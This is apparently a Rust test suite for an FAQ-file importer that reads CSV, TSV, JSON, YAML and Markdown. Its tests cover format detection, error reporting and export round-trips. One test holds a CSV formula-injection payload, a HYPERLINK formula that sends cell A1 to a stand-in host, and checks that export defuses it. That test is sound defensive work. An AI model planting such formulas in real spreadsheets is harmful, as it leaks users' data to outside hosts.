//! The shapes in which real FAQs come: each of these files holds the same three pairs, and is read as it is.

#![allow(clippy::unwrap_used, reason = "a test may stop")]

use kolibri_faq::{
    Column, CsvWriter, Fault, Format, Found, Limits, Options, Pair, Part, Place, Problem, Reader, Separator,
    Unreadable,
};

const QUESTIONS: [&str; 3] = ["Какой режим работы?", "How do I reset my password?", "Где вас найти?"];
const ANSWERS: [&str; 3] =
    ["С 9 до 18, \"без обеда\"; в выходные закрыто", "Open Settings,\nthen press Reset.", "ул. Ленина, 5"];

macro_rules! fixtures {
    ($($name:literal: $found:literal,)*) => {
        &[$(($name, include_bytes!(concat!("fixtures/", $name)), $found)),*]
    };
}

/// Each file, and how it has to be read.
const FIXTURES: &[(&str, &[u8], &str)] = fixtures! {
    "excel-ru.csv": "CSV windows-1251 ';' header",
    "excel-utf8.csv": "CSV UTF-8 ';' header",
    "excel-unicode-text.txt": "TSV UTF-16LE '\\t' header",
    "unmarked-utf16.csv": "CSV UTF-16BE ',' header",
    "sheets.csv": "CSV UTF-8 ',' header",
    "mac.csv": "CSV UTF-8 ',' header",
    "sep.csv": "CSV windows-1251 '|' header",
    "ids.csv": "CSV UTF-8 ',' header",
    "authors.csv": "CSV windows-1251 ';' header",
    "tickets.csv": "CSV UTF-8 ';' header",
    "forum.tsv": "TSV UTF-8 '\\t' header",
    "no-header.tsv": "TSV UTF-8 '\\t'",
    "no-header.csv": "CSV UTF-8 ','",
    "array.json": "JSON UTF-8 header",
    "sections.json": "JSON UTF-8 header",
    "object.json": "JSON UTF-8",
    "schema-org.json": "JSON UTF-8 header",
    "forum.json": "JSON UTF-8 header",
    "reading.json": "JSON UTF-8 header",
    "lists.json": "JSON UTF-8 header",
    "rows.json": "JSON UTF-8 header",
    "helpdesk.jsonl": "JSON Lines UTF-8 header",
    "list.yaml": "YAML UTF-8 header",
    "object.yml": "YAML UTF-8",
    "headings.markdown": "Markdown UTF-8",
    "labels.txt": "Markdown UTF-8",
    "labels.markdown": "Markdown windows-1251",
    "bold.markdown": "Markdown UTF-8",
    "terms.markdown": "Markdown UTF-8",
};

fn open<'a>(name: Option<&str>, bytes: &'a [u8]) -> Reader<'a> {
    Reader::open(bytes, name, Options::default()).unwrap()
}

fn pairs(reader: Reader<'_>) -> Vec<(String, String)> {
    let notes_aside =
        |entry: &Result<Pair, Fault>| !entry.as_ref().is_err_and(|fault| fault.problem.is_note());
    reader.filter(notes_aside).map(|pair| pair.map(|pair| (pair.question, pair.answer)).unwrap()).collect()
}

fn shown(found: &Found) -> String {
    let delimiter = found.delimiter.map(|delimiter| format!(" {delimiter:?}")).unwrap_or_default();
    let header = if found.header { " header" } else { "" };
    format!("{} {}{delimiter}{header}", found.format.name(), found.encoding)
}

#[test]
fn every_shape_is_read_as_it_is() {
    for (name, bytes, found) in FIXTURES {
        let reader = open(Some(name), bytes);
        assert_eq!(shown(reader.found()), *found, "{name}");
        // Without quotes a row of a table is one line.
        let answers =
            ANSWERS.map(
                |answer| if *name == "no-header.tsv" { answer.replace('\n', " ") } else { answer.to_owned() },
            );
        let expected: Vec<_> = QUESTIONS.map(str::to_owned).into_iter().zip(answers).collect();
        assert_eq!(pairs(reader), expected, "{name}");
    }
}

#[test]
fn no_shape_needs_the_name_of_the_file() {
    for (name, bytes, _) in FIXTURES {
        assert_eq!(pairs(open(None, bytes)), pairs(open(Some(name), bytes)), "{name}");
    }
}

fn read(name: &str, text: &str) -> Vec<Result<(String, String), String>> {
    open(Some(name), text.as_bytes())
        .map(|entry| entry.map(|pair| (pair.question, pair.answer)).map_err(|fault| fault.to_string()))
        .collect()
}

fn ok(question: &str, answer: &str) -> Result<(String, String), String> {
    Ok((question.to_owned(), answer.to_owned()))
}

#[test]
fn a_row_that_is_wrong_is_told_and_does_not_lose_the_others() {
    let read = read("faq.csv", "question,answer,tag\na,1,x\nb\nc,,x\nd,4,x,y\n\"e\" f,5,x\n ,6,x\ng,7,x\n");
    assert_eq!(read.first(), Some(&ok("a", "1")));
    assert_eq!(read.last(), Some(&ok("g", "7")));
    let faults: Vec<_> = read.into_iter().filter_map(Result::err).collect();
    assert_eq!(
        faults,
        [
            "line 3: this line has 1 field, but the answer is in column 2",
            "line 4: the answer is empty",
            "line 5: this line has 4 fields, but the first line has 3; put a text that contains the delimiter in quotes",
            "line 6: there is text behind a closing quote; write a quote inside of a quoted text twice",
            "line 7: the question is empty",
        ]
    );
}

#[test]
fn empty_rows_are_passed_over_in_every_format() {
    let pair = [ok("Why?", "So")];
    for (name, text) in [
        ("a.csv", "Question;Answer;Tag\r\n;;\r\nWhy?;So;x\r\n;;;\r\n ;\"\";\u{a0}\r\n;;"),
        ("a.tsv", "q\ta\n\t\nWhy?\tSo\n\t\n"),
        (
            "a.json",
            r#"[{"q":"","a":null},["",""],null,{},{"q":"Why?","a":"So"},{"q":" ","a":["",""],"tag":null}]"#,
        ),
        ("a.jsonl", "{}\n{\"q\":\"Why?\",\"a\":\"So\"}\n{\"q\":\"\",\"a\":\"\"}\n[\"\",\"\"]\nnull\n"),
        ("a.yaml", "- q: Why?\n  a: So\n- q:\n  a:\n-\n"),
        ("a.md", "| Question | Answer |\n|---|---|\n| | |\n| Why? | So |\n|  |  |\n"),
    ] {
        assert_eq!(read(name, text), pair, "{name}");
    }
    let half = read("a.csv", "Question;Answer;Tag\nWhy?;So;\n;;x\n");
    assert!(
        half[1].as_ref().unwrap_err().contains("the question is empty"),
        "a row with something is told: {half:?}"
    );
}

#[test]
fn an_item_that_is_no_pair_is_told_with_its_number() {
    let json = r#"[{"question":"a","answer":"1"},{"question":"b"},7,{"question":"c","answer":{"x":1}},
                   {"question":"d","question":"e","answer":"2"},{"question":["f","g"],"answer":["1","2"]}]"#;
    let read = read("faq.json", json);
    assert_eq!(read[0], ok("a", "1"));
    assert_eq!(read[5..], [ok("f", "1\n2"), ok("g", "1\n2")]);
    for (at, problem) in [
        (1, "item 2: there is no answer among the fields `question`"),
        (
            2,
            "item 3: expected an object with a question and an answer, or a list of both, but found a text alone",
        ),
        (3, "item 4: the answer is an object"),
        (4, "item 5: the field `question` is there twice"),
    ] {
        assert!(read[at].as_ref().unwrap_err().starts_with(problem), "{:?}", read[at]);
    }
}

#[test]
fn a_line_of_json_lines_is_told_with_its_number() {
    let read = read(
        "faq.jsonl",
        "{\"q\":\"a\",\"a\":\"1\"}\n\nnonsense\n{\"q\":\"b\"}\r\n[\"c\",\"3\"]\n{\"Why?\":\"So\"}",
    );
    assert_eq!((&read[0], &read[3], &read[4]), (&ok("a", "1"), &ok("c", "3"), &ok("Why?", "So")));
    assert!(read[1].as_ref().unwrap_err().starts_with("line 3: this is not JSON: expected"), "{read:?}");
    assert!(read[2].as_ref().unwrap_err().starts_with("line 4: there is no answer"), "{read:?}");
}

#[test]
fn titles_above_the_header_of_a_table_are_passed_over() {
    let read = read("faq.csv", "Our FAQ;;\r\n;;\r\nVersion 2;of March;\r\nВопрос;Ответ;№\r\nГде?;Тут;1\r\n");
    assert_eq!(read.len(), 3, "{read:?}");
    assert_eq!(
        (read[0].as_ref().unwrap_err().as_str(), &read[2]),
        ("line 1: this text belongs to no question and was passed over", &ok("Где?", "Тут"))
    );
}

#[test]
fn an_object_with_numbers_and_dates_has_its_texts_as_question_and_answer() {
    for (json, answer) in [
        (r#"[{"question_id":1,"title":"How?","answer_count":2,"body":"So"}]"#, "So"),
        (r#"[{"question":"How?","id":7,"answers":[{"text":"So","answer_start":0}]}]"#, "So"),
        (r#"[{"question":"How?","answers":{"text":["So","Thus"],"answer_start":[0,5]}}]"#, "So"),
        (r#"[{"questionId":"Q-1","questionTitle":"How?","isAnswered":true,"acceptedAnswer":"So"}]"#, "So"),
        (r#"[{"question":{"id":3,"text":"How?"},"answer":{"author":"ann","text":"So"}}]"#, "So"),
        (r#"[{"question":1,"title":"How?","answer":"42","description":"So"}]"#, "42"),
        (r#"{"rows":[["id","question","answer"],[1,"How?","So"]]}"#, "So"),
        (r#"[[1,"How?","So"]]"#, "So"),
    ] {
        assert_eq!(read("faq.json", json), [ok("How?", answer)], "{json}");
        assert_eq!(read("faq.jsonl", json.trim_matches(['[', ']'])).len(), 1, "{json}");
    }
    assert_eq!(
        read("faq.jsonl", "[1,\"How?\",\"So\"]\n[2,\"Why?\",\"Or so\"]"),
        [ok("How?", "So"), ok("Why?", "Or so")]
    );
    let points = read("faq.json", r#"{"faq":[{"q":"How?","a":"So"}],"points":[[1,2],[3,4]]}"#);
    assert!(
        points[1].as_ref().unwrap_err().contains("there is no question among the fields `1`, `2`"),
        "{points:?}"
    );
}

#[test]
fn what_is_told_about_a_file_is_no_pair() {
    for json in [
        r#"{"meta":{"version":3},"data":{"How?":"So"}}"#,
        r#"{"meta":{"title":"Our FAQ","by":{"name":"Ann"}},"data":[{"q":"How?","a":"So"}]}"#,
        r#"{"stats":{"pages":2,"day":"2025-03-01"},"faq":{"how":"So"}}"#,
        r#"{"made":{"with":"a program"},"faq":[{"q":"How?","a":"So"}]}"#,
        r#"{"version":3,"How?":"So"}"#,
    ] {
        let read: Vec<_> = read("faq.json", json).into_iter().flatten().map(|(_, answer)| answer).collect();
        assert_eq!(read, ["So"], "{json}");
    }
    let sections = r#"{"General":{"VPN":"A net"},"Terms":{"Version":"A state of a text"}}"#;
    assert_eq!(read("faq.json", sections), [ok("VPN", "A net"), ok("Version", "A state of a text")]);
    let beside = read("faq.json", r#"{"General":{"How?":"So"},"Terms":{"VPN":"A net"}}"#);
    assert!(beside[1].as_ref().unwrap_err().contains("belongs to no question"), "it is told: {beside:?}");
}

#[test]
fn lists_of_questions_and_of_answers_are_paired_in_their_order() {
    for json in [
        r#"{"questions":["a","b"],"answers":["1","2"]}"#,
        r#"{"faq":{"question":["a","b"],"answer":["1",2]}}"#,
        r#"[{"questions":["a","b"],"answers":["1","2"]}]"#,
        r#"{"id":{"0":7,"1":8},"question":{"0":"a","1":"b"},"answer":{"0":"1","1":"2"}}"#,
        r#"{"Вопросы":["a",null,"b"],"Ответы":["1","","2"]}"#,
    ] {
        assert_eq!(read("faq.json", json), [ok("a", "1"), ok("b", "2")], "{json}");
    }
    let wordings = r#"[{"patterns":["a","b"],"responses":["1","2"]}]"#;
    assert_eq!(read("faq.json", wordings), [ok("a", "1\n2"), ok("b", "1\n2")]);
    let uneven = read("faq.json", r#"{"questions":["a","b"],"answers":["1","2","3"]}"#);
    assert!(uneven[0].as_ref().unwrap_err().contains("a list of another length"), "{uneven:?}");
}

#[test]
fn an_answer_may_be_an_object_or_a_list_of_such() {
    let json =
        r#"{"data":[{"title":"How?","body":"long","answers":[{"body":"So","score":1},{"body":"Or so"}]}]}"#;
    assert_eq!(read("faq.json", json), [ok("How?", "So\nOr so")]);
}

#[test]
fn a_section_is_no_pair_although_it_has_a_title_and_a_text() {
    let json =
        r#"{"sections":[{"title":"Pay","text":"All about it","items":[{"question":"How?","answer":"So"}]}]}"#;
    let read = read("faq.json", json);
    assert_eq!(read.iter().flatten().collect::<Vec<_>>(), [&("How?".to_owned(), "So".to_owned())]);
    assert_eq!(read.len(), 2, "the text of the section is told: {read:?}");
}

#[test]
fn what_cannot_be_read_at_all_says_what_to_do() {
    let fails = |name: Option<&str>, bytes: &[u8], options: Options| match Reader::open(bytes, name, options)
    {
        Ok(reader) => panic!("{:?}", reader.found()),
        Err(error) => error.to_string(),
    };
    for (name, text, said) in [
        ("a.csv", "", "the file is empty"),
        ("a.txt", " \r\n\n", "the file is empty"),
        (
            "a.csv",
            "only one column\nand no other\n",
            "the first line is `only one column`, in which nothing separates",
        ),
        ("a.txt", "only words\n", "this looks like none of CSV, TSV, JSON"),
        (
            "a.csv",
            "id,question,level\n1,Why?,2\n",
            "no column for the answer; the columns are `id`, `question`, `level`",
        ),
        ("a.json", "[{\"question\": ", "line 1: this is not JSON: EOF"),
        (
            "a.csv",
            "Why?,\"So\nHow?,So\n",
            "line 1: this is not CSV: the quote that begins here is never closed",
        ),
        ("a.json", "[]", "no questions and answers were found; expected a list of objects"),
        ("a.yaml", "- a: [\n", "this is not YAML"),
        ("a.md", "", "the file is empty"),
        ("a.csv", "PK\u{3}\u{4}", "this is an Excel or Word file, or another ZIP archive; save it as CSV"),
        ("a.txt", "\n<!DOCTYPE html><html>", "this is a web page"),
        ("a.md", "\\", "no questions and answers"),
    ] {
        let told = fails(Some(name), text.as_bytes(), Options::default());
        assert!(told.contains(said), "{name}: {told}");
    }
    let damaged = ["[\"Вопрос\",\n\"".as_bytes(), b"\xff\"]"].concat();
    assert!(
        fails(Some("a.json"), &damaged, Options::default()).starts_with("line 2 is not UTF-8; save the file")
    );
    let wanted = Options { answer: Some(Column::named("Reply")), ..Options::default() };
    let told = fails(Some("a.csv"), b"Question,Answer\na,b\n", wanted);
    assert!(
        told.starts_with("no column for the answer is called `Reply`; the columns are `Question`, `Answer`"),
        "{told}"
    );
}

#[test]
fn an_export_of_nothing_holds_nothing() {
    for (name, text) in [("a.jsonl", ""), ("a.jsonl", "\n"), ("a.csv", "stimulus,response\r\n")] {
        assert!(read(name, text).is_empty(), "{name}");
    }
}

#[test]
fn what_is_said_overrules_what_is_found() {
    let options = Options {
        format: Some(Format::Csv),
        encoding: kolibri_faq::encoding_named("koi8-r"),
        question: Some(Column::named("3")),
        answer: Some(Column::named("kommentar")),
        limits: None,
    };
    let bytes = b"id;Kommentar;Frage\r\n1;\xc4\xc1;\xc7\xc4\xc5?\r\n";
    let reader = Reader::open(&bytes[..], Some("a.json"), options).unwrap();
    assert_eq!(pairs(reader), [("где?".to_owned(), "да".to_owned())]);
    let json = br#"[{"frage":"a","antwort":"b","question":"no","answer":"no"}]"#;
    let fields = Options {
        question: Some(Column::named("frage")),
        answer: Some(Column::named("Antwort")),
        ..Options::default()
    };
    assert_eq!(pairs(Reader::open(&json[..], None, fields).unwrap()), [("a".to_owned(), "b".to_owned())]);
}

#[test]
fn a_text_beyond_the_limits_is_told() {
    let options = Options { limits: Some(Limits { question: 4, answer: 6 }), ..Options::default() };
    let reader =
        Reader::open(&b"q,a\nlong?,x\nq,long answer\nda?,answer\n"[..], Some("a.csv"), options).unwrap();
    let read: Vec<_> = reader.collect();
    let too_long = |line, part, bytes, most| {
        Err(Fault { place: Place::Line(line), problem: Problem::TooLong { part, bytes, most } })
    };
    assert_eq!(read[0], too_long(2, Part::Question, 5, 4));
    assert_eq!(read[1], too_long(3, Part::Answer, 11, 6));
    assert_eq!(read[2].as_ref().unwrap().question, "da?");
}

#[test]
fn a_stream_is_read_without_its_end() {
    // What comes after the sample is read as it is asked for.
    let head = "question,answer\n".to_owned() + &"Why?,So\n".repeat(300_000);
    let endless = std::io::Read::chain(head.as_bytes(), std::io::repeat(b'x'));
    let reader = Reader::open(endless, Some("a.csv"), Options::default()).unwrap();
    assert_eq!(reader.take(300_000).filter(Result::is_ok).count(), 300_000);
    let endless = std::io::Read::chain(&b"["[..], std::io::repeat(b' '));
    assert!(matches!(
        Reader::open(endless, Some("a.json"), Options::default()),
        Err(Unreadable::TooLong { format: "JSON" })
    ));
}

/// The file that people get from `kolibri export --format csv`.
fn written(pairs: &[(String, String)], separator: Separator, mark: bool) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut writer = CsvWriter::begin(&mut bytes, separator, mark).unwrap();
    pairs.iter().for_each(|(question, answer)| writer.write(question, answer).unwrap());
    writer.flush().unwrap();
    bytes
}

#[test]
fn no_cell_of_an_export_is_a_formula() {
    let pairs = [("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Open\")".to_owned(), "-2+3".to_owned())];
    let text = String::from_utf8(written(&pairs, Separator::Comma, true)).unwrap();
    let expected = "\u{feff}stimulus,response\r\n\
                    \"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\"Open\"\")\",'-2+3\r\n";
    assert_eq!(text, expected);
    assert_eq!(self::pairs(open(Some("a.csv"), text.as_bytes())), pairs);
}

mod properties {
    use proptest::prelude::*;

    use super::*;

    /// Every kind of text that may be taught, the weird above all.
    fn text() -> impl Strategy<Value = String> {
        let weird = "[\u{0}-\u{20}\"',;|=+@\u{7f}-\u{a0}\u{ad}\u{34f}\u{61c}\u{180e}\u{200b}-\u{206f}\u{fe0f}\u{feff}\u{e0020}\u{fffe}\u{ffff}\u{10ffff}a-]{1,12}";
        prop_oneof![weird.prop_map(String::from), any::<String>(), ".{1,3}\r\n.{1,3}"]
            .prop_filter("blank texts are not taught", |text| !text.trim().is_empty())
    }

    proptest! {
        #[test]
        fn csv_round_trips_every_text(
            pairs in prop::collection::vec((text(), text()), 1..8), mark: bool,
            separator in prop::sample::select(vec![Separator::Comma, Separator::Semicolon, Separator::Tab])
        ) {
            let bytes = written(&pairs, separator, mark);
            let name = if separator == Separator::Tab { "a.tsv" } else { "a.csv" };
            prop_assert_eq!(self::super::pairs(open(Some(name), &bytes)), pairs);
        }

        #[test]
        fn json_lines_round_trip_every_text(pairs in prop::collection::vec((text(), text()), 1..8)) {
            let line = |(question, answer): &(String, String)| {
                format!("{}\n", serde_json::json!({ "stimulus": question, "response": answer, "source": { "index": 1 } }))
            };
            let text: String = pairs.iter().map(line).collect();
            prop_assert_eq!(self::super::pairs(open(Some("a.jsonl"), text.as_bytes())), pairs);
        }

        #[test]
        fn nothing_breaks_a_reader(bytes in prop::collection::vec(any::<u8>(), 0..300), name in prop::sample::select(vec![
            "a.csv", "a.tsv", "a.json", "a.jsonl", "a.yaml", "a.md", "a.txt",
        ])) {
            if let Ok(reader) = Reader::open(bytes.as_slice(), Some(name), Options::default()) {
                reader.for_each(drop);
            }
        }

        #[test]
        fn no_text_breaks_a_reader(text in "[-#*:\\[\\]{}\"'&|>,; \n\ta?QA=<]{0,60}", name in prop::sample::select(vec![
            "a.csv", "a.tsv", "a.json", "a.yaml", "a.md", "a.txt",
        ])) {
            if let Ok(reader) = Reader::open(text.as_bytes(), Some(name), Options::default()) {
                reader.for_each(drop);
            }
        }
    }
}

/// A file whose columns are chosen: its pairs.
fn chosen(name: &str, text: &str, question: &str, answer: &str) -> Vec<(String, String)> {
    let (question, answer) = (Some(Column::named(question)), Some(Column::named(answer)));
    let options = Options { question, answer, ..Options::default() };
    pairs(Reader::open(text.as_bytes(), Some(name), options).unwrap())
}

const HOW: (&str, &str) = ("How do I restart it?", "systemctl restart it");

#[test]
fn of_objects_with_other_names_the_fields_are_told_and_can_be_chosen() {
    let pair = [(HOW.0.to_owned(), HOW.1.to_owned())];
    for (name, text, columns, question, answer) in [
        (
            "a.json",
            r#"[{"id":1,"headline":"How do I restart it?","howto":"systemctl restart it"}]"#,
            &["id", "headline", "howto"][..],
            "headline",
            "howto",
        ),
        (
            "under a key.json",
            r#"{"made":"today","all":[{"headline":"How do I restart it?","howto":"systemctl restart it"}]}"#,
            &["headline", "howto"],
            "Headline",
            "howto",
        ),
        (
            "a.yaml",
            "- headline: How do I restart it?\n  howto: systemctl restart it\n",
            &["headline", "howto"],
            "headline",
            "howto",
        ),
        (
            "a.jsonl",
            "{\"headline\":\"How do I restart it?\",\"howto\":\"systemctl restart it\"}\n",
            &["headline", "howto"],
            "headline",
            "howto",
        ),
        (
            "one deeper.json",
            r#"[{"headline":"How do I restart it?","page":{"views":7,"html":"systemctl restart it"}}]"#,
            &["headline", "page.views", "page.html"],
            "headline",
            "page.html",
        ),
        (
            "both deeper.yaml",
            "- page:\n    headline: How do I restart it?\n    howto: systemctl restart it\n  id: 1\n",
            &["page.headline", "page.howto", "id"],
            "page.headline",
            "page.howto",
        ),
    ] {
        let reader = open(Some(name), text.as_bytes());
        let Found { columns: found, picked, header, rows, .. } = reader.found();
        assert_eq!(
            (found, *picked, *header),
            (&columns.iter().map(|&name| name.to_owned()).collect(), None, true),
            "{name}"
        );
        assert!(
            rows[0].contains(&HOW.0.to_owned()) && rows[0].contains(&HOW.1.to_owned()),
            "{name}: {rows:?}"
        );
        assert!(
            {
                let mut reader = reader;
                reader.all(|entry| entry.is_err())
            },
            "{name}: nothing is guessed"
        );
        assert_eq!(chosen(name, text, question, answer), pair, "{name}");
    }
}

#[test]
fn one_field_cannot_be_both_the_question_and_the_answer() {
    for (name, text) in [("a.json", r#"[{"x":"How?","y":"So"}]"#), ("a.jsonl", r#"{"x":"How?","y":"So"}"#)] {
        let both = Some(Column::named("x"));
        let options = Options { question: both.clone(), answer: both, ..Options::default() };
        let refused = Reader::open(text.as_bytes(), Some(name), options).map(|_| ());
        assert!(matches!(&refused, Err(Unreadable::SameColumn(name)) if name == "x"), "{name}: {refused:?}");
    }
}

#[test]
fn of_objects_with_usual_names_the_fields_are_told_too() {
    let reader = open(Some("a.json"), br#"[{"title":"How?","tags":["a","b"],"text":"So"}]"#);
    assert_eq!(reader.found().columns, ["title", "tags", "text"]);
    assert_eq!((reader.found().picked, &reader.found().rows[0][1]), (Some((0, 2)), &"a; b".to_owned()));
}

#[test]
fn a_table_whose_answers_are_not_clear_tells_its_columns_and_first_rows() {
    let text = "Question;Notes;Remark\nHow?;long text;x\nWhy?;other text;y\n";
    let unclear = Reader::open(text.as_bytes(), Some("a.csv"), Options::default()).map(|_| ());
    let Err(Unreadable::NoColumn { part: Part::Answer, wanted: None, found }) = unclear else {
        panic!("{unclear:?}")
    };
    assert_eq!((found.delimiter, found.header), (Some(';'), true));
    assert_eq!(found.columns, ["Question", "Notes", "Remark"]);
    assert_eq!(found.rows, [["How?", "long text", "x"], ["Why?", "other text", "y"]]);
    assert_eq!(chosen("a.csv", text, "question", "notes").len(), 2);
}

#[test]
fn a_list_of_lists_tells_its_columns_and_they_can_be_chosen() {
    let text = r#"[["Question","Notes","Remark"],["How?","long text","x"],["Why?","other text","y"]]"#;
    let unclear = Reader::open(text.as_bytes(), Some("a.json"), Options::default()).map(|_| ());
    let Err(Unreadable::NoColumn { found, .. }) = unclear else { panic!("{unclear:?}") };
    assert_eq!(found.columns, ["Question", "Notes", "Remark"]);
    assert_eq!(chosen("a.json", text, "Question", "Notes").len(), 2);
}
